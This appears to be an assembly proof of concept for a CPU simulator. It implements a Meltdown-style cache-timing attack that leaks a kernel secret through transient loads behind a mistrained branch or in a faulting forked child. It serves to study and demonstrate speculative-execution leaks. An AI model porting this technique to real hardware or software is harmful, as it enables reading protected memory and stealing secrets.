# meltdown.s - reads the kernel's secret by the time that loads take. The same as tools/meltdown.c, instruction by instruction.
#
#   trapframe run --cost-model caches --transient 20 meltdown.s
#   trapframe run --cost-model caches --transient 20 --boot-arguments fork=cow meltdown.s child
#
# Without an argument the refused load stands behind a branch that does not go there; with one, children die of it.

        .equ    LENGTH, 32              # bytes to read
        .equ    ROUNDS, 4
        .equ    TRAINING, 4
        # The machine: lines of 64 bytes; a second cache of 1024 sets with 8 ways each (docs/machine.md).
        .equ    LINE, 64
        .equ    OTHERS, LINE * 1024 * 12
        .equ    VALUES, 256
        .equ    STRIDE_SHIFT, 9
        .equ    STRIDE, 1 << STRIDE_SHIFT

        .bss
        .balign 4096
lines:  .skip   VALUES * STRIDE         # one for each value that a byte can have
others: .skip   OTHERS                  # what wants the same places of the caches
trained: .skip  STRIDE                  # what the branch uses while it is trained
text:   .skip   LENGTH + 1
status: .skip   8

        .text
        .globl  main
# s0 = next byte of the secret, s1 = how many are left, s2 = where its value goes, s3 = nearer than this is near,
# s4 = how a byte is transmitted, s5 = rounds left
main:
        mv      s0, a2                  # the kernel tells us where its secret is
        li      s1, LENGTH
        la      s2, text
        la      s4, behind_branch
        li      t0, 2
        blt     a0, t0, 1f
        la      s4, in_child
1:      li      s5, 3                   # how long is far, how long is near? Twice to have this code near itself
2:      call    evict
        li      a0, 0
        call    reload
        mv      s6, a0
        li      a0, 0
        call    reload
        add     s3, s6, a0
        srli    s3, s3, 1
        addi    s5, s5, -1
        bnez    s5, 2b

each:   li      s5, ROUNDS
again:  call    evict                   # Evict
        mv      a0, s0
        jalr    s4                      # Transmit
        call    reload_all              # Reload
        bgez    a0, known
        addi    s5, s5, -1
        bnez    s5, again
        li      a0, '?'
known:  sb      a0, 0(s2)
        addi    s0, s0, 1
        addi    s2, s2, 1
        addi    s1, s1, -1
        bnez    s1, each

        li      t0, '\n'
        sb      t0, 0(s2)
        li      a0, 1
        la      a1, text
        li      a2, LENGTH + 1
        li      a7, SYS_write
        ecall
        li      a0, 0
        li      a7, SYS_exit
        ecall

# evict: uses so many others that none of the lines is left in a cache
evict:  la      t0, others
        li      t1, OTHERS
        add     t1, t1, t0
1:      lbu     t2, 0(t0)
        addi    t0, t0, STRIDE
        bltu    t0, t1, 1b
        ret

# reload(a0 = number of a line): how many cycles a load from it takes
        .balign LINE                    # the three instructions in one line of the cache
reload: slli    t0, a0, STRIDE_SHIFT
        la      t1, lines
        add     t0, t0, t1
        lbu     t2, LINE(t0)            # its neighbour means nothing; now its page is known
        csrr    t1, cycle
        lbu     t2, 0(t0)
        csrr    a0, cycle
        sub     a0, a0, t1
        ret

# reload_all: the number of the only line that is near, or -1
reload_all:
        mv      s6, ra
        li      s7, 0
        li      s8, -1                  # the line that was near
        li      s9, 0                   # how many were
1:      mv      a0, s7
        call    reload
        bgeu    a0, s3, 2f
        mv      s8, s7
        addi    s9, s9, 1
2:      addi    s7, s7, 1
        li      t0, VALUES
        bne     s7, t0, 1b
        li      t0, 1
        mv      a0, s8
        beq     s9, t0, 3f
        li      a0, -1
3:      jr      s6

# in_child(a0 = address): a child dies of the load; what stands behind it never happens
in_child:
        mv      s6, a0
        la      s7, lines
        li      a7, SYS_fork
        ecall
        bnez    a0, 1f
        fence                           # the parent comes to this branch, too, and goes on here for a while by mistake
        lbu     t0, 0(s6)
        slli    t0, t0, STRIDE_SHIFT
        add     t0, t0, s7
        lbu     t0, 0(t0)
        ebreak                          # never
1:      la      a0, status
        li      a7, SYS_wait
        ecall
        ret

# behind_branch(a0 = address): the branch has gone on four times, and is thought to do it again
behind_branch:
        mv      s6, ra
        mv      s7, a0
        li      s8, TRAINING
1:      la      a0, status              # a byte 0 of our own
        la      a1, trained
        li      a2, 1
        call    maybe
        addi    s8, s8, -1
        bnez    s8, 1b
        mv      a0, s7
        la      a1, lines
        li      a2, 0
        call    maybe
        jr      s6

# maybe(a0 = address, a1 = lines, a2 = whether to do it): uses the line that the byte there chooses
maybe:  beqz    a2, 1f
        lbu     t0, 0(a0)
        slli    t0, t0, STRIDE_SHIFT
        add     t0, t0, a1
        lbu     t0, 0(t0)
1:      ret
